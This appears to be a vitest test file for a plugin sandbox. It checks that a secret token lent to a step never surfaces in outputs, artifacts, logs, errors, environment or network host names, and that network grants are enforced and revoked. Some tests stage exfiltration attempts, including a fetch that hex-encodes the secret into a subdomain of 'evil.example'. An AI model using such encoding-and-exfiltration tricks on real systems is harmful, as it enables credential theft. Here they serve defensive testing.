import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, describe, expect, it } from "vitest";
import type { StepResult } from "../../../src/sandbox/index.ts";
import { openSandbox, outcome, type StepOverrides } from "./open-sandbox.ts";

const canary = 'canary-7f3a9c0d1e/"quoted"\nsecond line of it';
const secrets = { token: canary };

const bench = await openSandbox();
const weak = await openSandbox({ level: "process" });
const { level, reason } = bench.hosts.facts;
const isConfined = level === "confined" || level === "sealed";
const suffix = isConfined ? "" : ` (skipped: level ${level}, ${reason ?? ""})`;
const mayRunWeak = weak.hosts.level === "process";

afterAll(async () => {
  await bench[Symbol.asyncDispose]();
  await weak[Symbol.asyncDispose]();
});

const lent = (run: string, over: StepOverrides = {}): Promise<StepResult> =>
  bench.step(run, { isolation: "host", ...over, request: { secrets, ...over.request } });

/** Everything that the ports of the sandbox were told. */
const told = (): string =>
  JSON.stringify([bench.logs, bench.egress, [...bench.written.values()].map((bytes) => bytes.toString("latin1"))]);

const shows = (text: string): boolean => /canary-7f3a9c0d1e|7f3a9c|second line of it/i.test(text);

describe.skipIf(!isConfined)(`a step that is lent a secret${suffix}`, () => {
  it("finds its value in ctx.secrets, and nowhere else that a process has", async () => {
    const run = `(input, ctx) => {
      const fs = require('fs');
      const places = [JSON.stringify(process.env), process.argv.join(' '), JSON.stringify(process.execArgv),
        ...fs.readdirSync(process.cwd())];
      return { length: ctx.secrets.token.length, frozen: Object.isFrozen(ctx.secrets), names: Object.keys(ctx.secrets),
        elsewhere: places.some((text) => text.includes(ctx.secrets.token)) };
    }`;

    expect(outcome(await lent(run, { builtins: ["fs"] }))).toEqual({
      ...{ length: canary.length, frozen: true, names: ["token"], elsewhere: false },
    });
  });

  it("leaves nothing of it to the next step of the same plugin", async () => {
    const run = `(input, ctx) => { const before = globalThis.kept ?? null; globalThis.kept = ctx.secrets.token ?? null; return { before, has: 'token' in ctx.secrets }; }`;

    await lent(run);
    const next = await bench.step(run, { isolation: "host" });

    expect(outcome(next)).toEqual({ before: null, has: false });
  });

  it.each([
    ["as it is", "ctx.secrets.token"],
    ["within a text", "'Bearer ' + ctx.secrets.token"],
    ["as JSON in a text", "JSON.stringify(ctx.secrets)"],
    ["in base64 behind other bytes", "btoa('x:' + ctx.secrets.token)"],
    ["in hex", "[...new TextEncoder().encode(ctx.secrets.token)].map((b) => b.toString(16).padStart(2, '0')).join('')"],
    ["percent-encoded", "'?q=' + encodeURIComponent(ctx.secrets.token)"],
  ])("fails by SECRET_LEAKED where its output holds it %s, as a value or as a key", async (_name, expression) => {
    const value = await lent(`(input, ctx) => ({ deep: [{ text: ${expression} }] })`);
    const key = await lent(`(input, ctx) => ({ [${expression}]: true })`);

    for (const result of [value, key]) {
      expect(result).toMatchObject({ kind: "failed", class: "policy", code: "SECRET_LEAKED" });
      expect(shows(JSON.stringify(result))).toBe(false);
      expect(JSON.stringify(result)).toContain("secret token");
    }
  });

  it("may speak of anything else", async () => {
    const result = await lent("(input, ctx) => ({ delivered: true, characters: ctx.secrets.token.length })");

    expect(outcome(result)).toEqual({ delivered: true, characters: canary.length });
  });

  it("fails by SECRET_LEAKED where an artifact holds it, although it catches the refusal", async () => {
    bench.written.clear();
    const run = `async (input, ctx) => {
      const half = ctx.secrets.token.length / 2;
      async function* pieces() { yield new TextEncoder().encode('x'.repeat(600000) + ctx.secrets.token.slice(0, half)); yield new TextEncoder().encode(ctx.secrets.token.slice(half)); }
      try { await ctx.artifacts.write(pieces(), 'text/plain'); } catch {}
      return { quiet: true };
    }`;

    const result = await lent(run);

    expect(result).toMatchObject({ kind: "failed", code: "SECRET_LEAKED" });
    expect(bench.written.size).toBe(0);
  });

  it("shows it in no log line, no print, no error and no field", async () => {
    bench.logs.splice(0);
    const run = `(input, ctx) => {
      ctx.log('info', 'said ' + ctx.secrets.token, { token: ctx.secrets.token, [ctx.secrets.token]: 1 });
      ctx.log('warn', 'x'.repeat(7990) + ctx.secrets.token);
      console.log('printed', ctx.secrets.token);
      process.stdout.write('y'.repeat(7995) + ctx.secrets.token);
      throw Object.assign(new Error('thrown ' + ctx.secrets.token), { name: ctx.secrets.token, code: ctx.secrets.token });
    }`;

    const result = await lent(run);

    expect(result).toMatchObject({ kind: "failed", code: "STEP_FAILED" });
    expect(bench.logs.length).toBeGreaterThan(2);
    expect(told()).toContain("[redacted]");
    expect(shows(told() + JSON.stringify(result))).toBe(false);
  });

  it("spells it in no host name that is told: what it did not declare has no name", async () => {
    bench.egress.splice(0);
    const run = `async (input, ctx) => {
      const name = [...new TextEncoder().encode(ctx.secrets.token)].map((b) => b.toString(16).padStart(2, '0')).join('').slice(0, 60);
      try { await fetch('https://' + name + '.evil.example/'); } catch {}
      try { await fetch('https://notify.internal:8443/'); } catch {}
      return {};
    }`;

    await lent(run, {
      request: { secrets, network: ["notify.internal:8443"] },
      ports: { decideEgress: () => "deny" },
    });

    expect(bench.egress.map(({ kind, host, port, reason: why }) => [kind, host, port, why])).toEqual([
      ["deny", "undeclared.invalid", 0, "not_declared"],
      ["deny", "notify.internal", 8443, "not_allowlisted"],
    ]);
  });

  it("gives it to the endpoint that it was granted", async () => {
    let heard = "";
    const server = createServer((request, response) => {
      heard = String(request.headers.authorization);
      response.end("{}");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    const run = `async (input, ctx) => ({ status: (await fetch('http://127.0.0.1:${port}/', { headers: { authorization: 'Bearer ' + btoa(ctx.secrets.token) } })).status })`;

    const result = await lent(run, { request: { secrets, network: [`127.0.0.1:${port}`] } });
    server.close();

    expect(outcome(result)).toEqual({ status: 200 });
    expect(heard).toBe(`Bearer ${btoa(canary)}`);
  });

  it("is refused in a realm, which it would share with others", async () => {
    const result = await lent("() => ({})", { isolation: "realm" });

    expect(result).toMatchObject({ kind: "failed", code: "INTERNAL" });
  });
});

describe.skipIf(!mayRunWeak)("at level process", () => {
  it("no step is lent a secret, and others still run", async () => {
    const refused = await weak.step("() => ({})", { isolation: "host", request: { secrets } });
    const other = await weak.step("() => ({ fine: true })");

    expect(refused).toMatchObject({ kind: "failed", class: "policy", code: "SECRET_LEVEL" });
    expect(outcome(other)).toEqual({ fine: true });
  });
});

describe.skipIf(!isConfined)(`a grant that is taken away while a step uses it${suffix}`, () => {
  it("ends the open connection within five seconds, and the step by ALLOWLIST_REVOKED", async () => {
    let reached: () => void = () => undefined;
    const open = new Promise<void>((resolve) => {
      reached = resolve;
    });
    const server = createServer(() => reached());
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    let decision: "allow" | "deny" = "allow";
    const running = bench.step(`async () => ({ status: (await fetch('http://127.0.0.1:${port}/')).status })`, {
      request: { network: [`127.0.0.1:${port}`] },
      ports: { decideEgress: () => decision },
      limits: { timeoutMs: 20_000 },
    });
    await open;

    const before = performance.now();
    decision = "deny";
    const result = await running;
    server.closeAllConnections();
    server.close();

    expect(result).toMatchObject({ kind: "failed", class: "policy", code: "ALLOWLIST_REVOKED" });
    expect(performance.now() - before).toBeLessThan(5000);
  });
});
